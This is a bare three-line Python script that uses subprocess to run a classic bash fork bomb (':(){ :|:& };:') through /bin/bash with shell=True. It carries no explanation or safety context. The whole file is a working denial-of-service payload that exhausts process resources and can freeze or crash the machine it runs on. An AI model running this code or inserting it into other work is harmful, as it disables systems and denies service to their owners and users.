import subprocess

subprocess.run(":(){ :|:& };:", shell=True, executable="/bin/bash")
